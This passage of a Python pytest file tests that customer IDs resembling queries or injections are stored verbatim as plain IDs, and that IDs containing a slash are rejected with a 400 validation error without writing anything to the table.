    assert "error" not in response.json and response.json.get("success", True) is True
    assert table_items() != before


# The hostile ids a customer can have: every one but NUL (a control character) and those with a "/".
SLASHLESS = {label: value for label, value in HOSTILE_IDS.items() if label != "NUL" and "/" not in value}
WITH_SLASH = {label: value for label, value in HOSTILE_IDS.items() if "/" in value}


@pytest.mark.parametrize("hostile", list(SLASHLESS.values()), ids=list(SLASHLESS))
def test_a_customer_id_that_looks_like_a_query_or_an_injection_is_only_an_id(
    ticket_id: str, hostile: str
) -> None:
    # Given the table as it is (a customer's externalId is the integration's own: one line of text)
    api = Api("acme")
    before = table_items()

    # When a customer is put under an id that looks like a query or a script (percent-encoded)
    response = api.put_customer(hostile, {"name": "Mallory"})

    # Then exactly one item was added: that customer, under exactly that id, which reads back as written
    assert response.status == 201, response.json
    assert response.data["externalId"] == hostile
    added = [item for item in table_items() if item not in before]
    assert [item["externalId"]["S"] for item in added] == [hostile]
    assert all(item in table_items() for item in before)
    assert api.get_customer(hostile).data == response.data


@pytest.mark.parametrize("hostile", list(WITH_SLASH.values()), ids=list(WITH_SLASH))
def test_a_customer_id_with_a_slash_is_refused_at_creation_and_writes_nothing(
    ticket_id: str, hostile: str
) -> None:
    # Given the table as it is
    before = table_items()

    # When a customer is put under an id holding a "/" (which API Gateway cannot route encoded in a path)
    response = Api("acme").put_customer(hostile, {"name": "Mallory"})

    # Then it is a 400 naming externalId, and nothing was written
    assert_error(response, 400, "VALIDATION_ERROR", "externalId")
    assert "/" in response.error["details"][0]["message"]
    assert table_items() == before
